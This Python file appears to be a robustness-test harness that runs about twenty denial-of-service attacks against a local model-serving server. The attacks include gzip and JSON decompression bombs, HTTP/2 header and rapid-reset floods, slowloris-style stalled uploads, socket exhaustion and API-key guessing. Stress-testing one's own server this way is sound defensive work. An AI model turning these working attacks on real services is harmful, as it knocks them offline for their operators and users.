"""The attacks of `hostile.py`: each is a function that attacks a server on loopback.

An attack gets a `Target`, whose `key` is None if the attacker has none, and returns when its time
is up. All ignore the server's responses and carry on when it closes a connection.

usage, by hostile.py: python bench/hostile_attacks.py NAME PORT GRPC_PORT KEY
"""

from __future__ import annotations

import contextlib
import gzip
import json
import os
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

MB = 1024 * 1024
WIDE = 100_000  # floats per row in the output of the model `wide`
INFER = "/inference.GRPCInferenceService/ModelInfer"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PNG_HEAD = b"\x89PNG\r\n\x1a\n"


@dataclass(frozen=True, slots=True)
class Target:
    """Where to attack, until when (`time.monotonic`), and with which key, if any."""

    port: int
    grpc_port: int
    end: float
    key: str | None = None

    @property
    def goes_on(self) -> bool:
        """Whether the attack has time left."""
        return time.monotonic() < self.end

    def connect(self, port: int = 0) -> socket.socket:
        """A connection to `port`, or to the HTTP port."""
        return socket.create_connection(("127.0.0.1", port or self.port), timeout=5)

    def write(self, path: str, body: bytes, kind: str, *lines: str, length: int = -1) -> bytes:
        """A POST request; `length` can claim a longer body than it has."""
        head = [f"POST {path} HTTP/1.1", "host: localhost", f"content-type: {kind}"]
        head += [f"content-length: {len(body) if length < 0 else length}", *lines]
        head += [f"x-api-key: {self.key}"] if self.key else []
        return "\r\n".join(head).encode() + b"\r\n\r\n" + body

    def hold(self) -> None:
        """Sleeps until the attack ends."""
        time.sleep(max(0.0, self.end - time.monotonic()))


def at_once(number: int, act: Callable[[], object]) -> None:
    """Runs `act` on several threads, ignoring network errors."""

    def run() -> None:
        with contextlib.suppress(OSError):
            act()

    threads = [threading.Thread(target=run, daemon=True) for _ in range(number)]
    for each in threads:
        each.start()
    for each in threads:
        each.join()


def ask(target: Target, request: bytes) -> bytes:
    """Sends a request on a new connection; returns the start of the response, or b""."""
    with contextlib.suppress(OSError), target.connect() as connection:
        connection.sendall(request)
        connection.settimeout(max(0.1, target.end - time.monotonic()))
        answer = connection.recv(65536)
        with contextlib.suppress(OSError):
            while connection.recv(1 << 20) and target.goes_on:
                pass
        return answer
    return b""


def grpc_bombs(target: Target) -> None:
    """Six gzip messages of 30 KB with 16 million empty tensors each."""
    import grpc

    message = b"\x2a\x00" * 16_000_000
    metadata = [("x-api-key", target.key)] if target.key else []
    with grpc.insecure_channel(
        f"127.0.0.1:{target.grpc_port}", options=[("grpc.max_send_message_length", -1)]
    ) as channel:
        call = channel.unary_unary(INFER)
        for _ in range(6):
            if target.goes_on:
                with contextlib.suppress(grpc.RpcError):
                    call(message, metadata=metadata, compression=grpc.Compression.Gzip, timeout=20)


def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    """An HTTP/2 frame."""
    return struct.pack(">I", len(body))[1:] + struct.pack(">BBI", kind, flags, stream) + body


def literals(*headers: tuple[str, str]) -> bytes:
    """Short headers as HPACK literals."""
    return b"".join(
        b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
        for name, value in headers
    )


def call_headers(target: Target) -> bytes:
    """The headers of an inference call."""
    keys = [("x-api-key", target.key)] if target.key else []
    return literals(
        (":method", "POST"), (":scheme", "http"), (":path", INFER), (":authority", "here"),
        ("te", "trailers"), ("content-type", "application/grpc"), *keys,
    )  # fmt: skip


def grpc_headers(target: Target) -> None:
    """Eight connections that send endless headers for one call."""
    more = frame(9, 0, 1, literals(("x-a", "b" * 10)) * 900)

    def flood() -> None:
        while target.goes_on:
            with contextlib.suppress(OSError), target.connect(target.grpc_port) as connection:
                connection.sendall(PREFACE + frame(4, 0, 0) + frame(1, 0, 1, call_headers(target)))
                while target.goes_on:
                    connection.sendall(more)

    at_once(8, flood)


def grpc_resets(target: Target) -> None:
    """Four connections that start calls and reset them immediately."""
    headers = call_headers(target)

    def flood() -> None:
        while target.goes_on:
            with contextlib.suppress(OSError), target.connect(target.grpc_port) as connection:
                connection.sendall(PREFACE + frame(4, 0, 0))
                for stream in range(1, 1 << 30, 2):
                    reset = frame(3, 0, stream, b"\0\0\0\x08")
                    connection.sendall(frame(1, 5, stream, headers) + reset)
                    if not target.goes_on:
                        return

    at_once(4, flood)


def grpc_stalled(target: Target) -> None:
    """100 calls that send a 31 MB message as far as the flow control windows allow."""
    size = 31 * MB
    head = b"\0" + struct.pack(">I", size)

    def stall() -> None:
        with target.connect(target.grpc_port) as connection:
            connection.sendall(PREFACE + frame(4, 0, 0) + frame(1, 4, 1, call_headers(target)))
            rooms, data, sent, buffer = [65_535, 65_535], head, 0, b""
            while target.goes_on:
                room = min(*rooms, 16_384, size - sent)
                if room > 0:
                    connection.sendall(frame(0, 0, 1, (data + bytes(room))[:room]))
                    rooms, sent, data = [each - room for each in rooms], sent + room, b""
                    continue
                buffer += connection.recv(65_536) or _gone()
                while len(buffer) >= 9 and len(buffer) >= (
                    length := 9 + int.from_bytes(buffer[:3], "big")
                ):
                    if buffer[3] == 8:
                        rooms[bool(buffer[8])] += int.from_bytes(buffer[9:13], "big")
                    elif buffer[3] == 4 and not buffer[4] & 1:
                        connection.sendall(frame(4, 1, 0))
                    elif buffer[3] == 6 and not buffer[4] & 1:
                        connection.sendall(frame(6, 1, 0, buffer[9:17]))
                    elif buffer[3] == 3:
                        return
                    buffer = buffer[length:]

    at_once(100, stall)


def _gone() -> bytes:
    raise ConnectionResetError


def json_bombs(target: Target) -> None:
    """Eight concurrent 32 MB bodies of empty lists, over and over."""
    body = b'{"instances":[' + b"[]," * ((32 * MB - 64) // 3) + b"[]]}"
    request = target.write("/v1/models/digits:predict", body, "application/json")
    at_once(8, lambda: _repeat(target, request))


def json_bombs_gzip(target: Target) -> None:
    """The same with gzip: 32 KB each on the wire."""
    body = gzip.compress(b'{"instances":[' + b"[]," * ((32 * MB - 64) // 3) + b"[]]}")
    request = target.write(
        "/v1/models/digits:predict", body, "application/json", "content-encoding: gzip"
    )
    at_once(8, lambda: _repeat(target, request))


def _repeat(target: Target, request: bytes) -> None:
    while target.goes_on:
        ask(target, request)


def wrong_pictures(target: Target) -> None:
    """80 invalid 30 MB pictures, one after the other."""
    request = target.write("/predict/digits", PNG_HEAD + os.urandom(30 * MB), "image/png")
    for _ in range(80):
        if target.goes_on:
            ask(target, request)


def stalled_uploads(target: Target) -> None:
    """100 bodies of 31 MB that never send their last byte."""
    request = target.write("/predict/digits", bytes(31 * MB), "image/png", length=31 * MB + 1)

    def stall() -> None:
        with target.connect() as connection:
            connection.sendall(request)
            target.hold()

    at_once(100, stall)


def long_paths(target: Target) -> None:
    """80 threads that request distinct 64 KB paths, over and over."""

    def flood() -> None:
        number = 0
        while target.goes_on:
            number += 1
            path = f"/{threading.get_ident()}-{number}/".ljust(64_000, "a")
            ask(target, target.write(path, b"", "text/plain", "connection: close"))

    at_once(80, flood)


def silent_sockets(target: Target) -> None:
    """2,100 connections that send nothing, more than the server may have open files."""
    held = []
    for _ in range(2100):
        with contextlib.suppress(OSError):
            held.append(socket.create_connection(("127.0.0.1", target.port), timeout=0.2))
        if not target.goes_on:
            break
    target.hold()


def dripping_lines(target: Target) -> None:
    """Four connections that send a 28 MB JSON line, then 250 one-byte chunks a second."""
    head = target.write("/predict/digits", b"", "application/x-ndjson")
    head = head.replace(b"content-length: 0", b"transfer-encoding: chunked")
    start = b'{"image": "' + b"A" * (28 * MB)

    def drip() -> None:
        with target.connect() as connection:
            connection.sendall(head + b"%x\r\n%s\r\n" % (len(start), start))
            while target.goes_on:
                connection.sendall(b"1\r\nA\r\n")
                time.sleep(0.004)

    at_once(4, drip)


def looping_graph(target: Target) -> None:
    """Twelve concurrent requests to a graph that never finishes."""
    body = json.dumps({"instances": [[1e12]]}).encode()
    request = target.write("/v1/models/loop:predict", body, "application/json")
    at_once(12, lambda: ask(target, request))


def many_rows(target: Target) -> None:
    """Requests with 10,000 rows each, one after the other."""
    rows = [[0.0]] * 10_000
    body = json.dumps({"instances": rows}).encode()
    request = target.write("/v1/models/loop:predict", body, "application/json")
    _repeat(target, request)


def many_floats(target: Target) -> None:
    """Requests whose JSON response has ten million floats, one after the other."""
    _repeat(target, write_wide(target, 10_000_000 // WIDE))


def write_wide(target: Target, rows: int) -> bytes:
    """A request with `rows` rows for the model `wide`."""
    body = json.dumps({"instances": [[0.1]] * rows}).encode()
    return target.write("/v1/models/wide:predict", body, "application/json")


def failed_keys(target: Target) -> None:
    """16 connections that try keys as fast as they are rejected."""

    def flood() -> None:
        number = 0
        while target.goes_on:
            with contextlib.suppress(OSError), target.connect() as connection:
                while target.goes_on:
                    number += 1
                    guess = f"x-api-key: guess-{threading.get_ident()}-{number}"
                    connection.sendall(
                        target.write("/predict/digits", b"{}", "application/json", guess)
                    )
                    if not connection.recv(65_536):
                        break

    at_once(16, flood)


def slow_readers(target: Target) -> None:
    """50 requests for a JSON response of a million floats that is never read."""
    request = write_wide(target, 1_000_000 // WIDE)

    def hold() -> None:
        with socket.socket() as connection:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            connection.connect(("127.0.0.1", target.port))
            connection.sendall(request)
            target.hold()

    at_once(50, hold)


def pipelined(target: Target) -> None:
    """50 connections that send requests without reading responses."""
    requests = target.write("/predict/digits", b"{}", "application/json") * 200

    def flood() -> None:
        while target.goes_on:
            with contextlib.suppress(OSError), target.connect() as connection:
                connection.settimeout(1)
                while target.goes_on:
                    connection.sendall(requests)

    at_once(50, flood)


def header_floods(target: Target) -> None:
    """100 connections that send 60 KB of headers and never finish them."""
    lines = b"".join(b"x-%d: %s\r\n" % (number, b"a" * 1000) for number in range(59))

    def flood() -> None:
        while target.goes_on:
            with contextlib.suppress(OSError), target.connect() as connection:
                connection.sendall(b"POST /predict/digits HTTP/1.1\r\nhost: localhost\r\n" + lines)
                time.sleep(0.2)

    at_once(100, flood)


@dataclass(frozen=True, slots=True)
class Attack:
    """An attack, and the server it needs."""

    act: Callable[[Target], None]
    keyed: bool = False  # the attacker has a valid key
    tls: bool = False
    files: int = 0  # limit of the server's open files; 0: the system's own
    timeout_s: int = 30

    @property
    def name(self) -> str:
        """The name on the command line."""
        kind = "-with-key" if self.keyed and self.act.__name__.startswith("grpc") else ""
        return self.act.__name__.replace("_", "-") + kind


ATTACKS = (
    Attack(grpc_bombs),
    Attack(grpc_bombs, keyed=True),
    Attack(grpc_headers),
    Attack(grpc_resets),
    Attack(grpc_stalled),
    Attack(grpc_stalled, keyed=True),
    Attack(json_bombs, keyed=True),
    Attack(json_bombs_gzip, keyed=True),
    Attack(wrong_pictures, keyed=True),
    Attack(stalled_uploads, keyed=True),
    Attack(long_paths),
    Attack(silent_sockets, tls=True, files=512),
    Attack(dripping_lines, keyed=True),
    Attack(looping_graph, keyed=True, timeout_s=3),
    Attack(many_rows, keyed=True),
    Attack(many_floats, keyed=True),
    Attack(failed_keys),
    Attack(slow_readers, keyed=True),
    Attack(pipelined),
    Attack(header_floods),
)


def list_names() -> Iterator[str]:
    """The names of all attacks."""
    return (each.name for each in ATTACKS)


def main() -> None:
    """Runs the named attack until the time given by a line on standard input."""
    name, port, grpc_port, key = sys.argv[1:]
    attack = next(each for each in ATTACKS if each.name == name)
    print("ready", flush=True)
    end = float(sys.stdin.readline())
    attack.act(Target(int(port), int(grpc_port), end, key if attack.keyed else None))


if __name__ == "__main__":
    main()
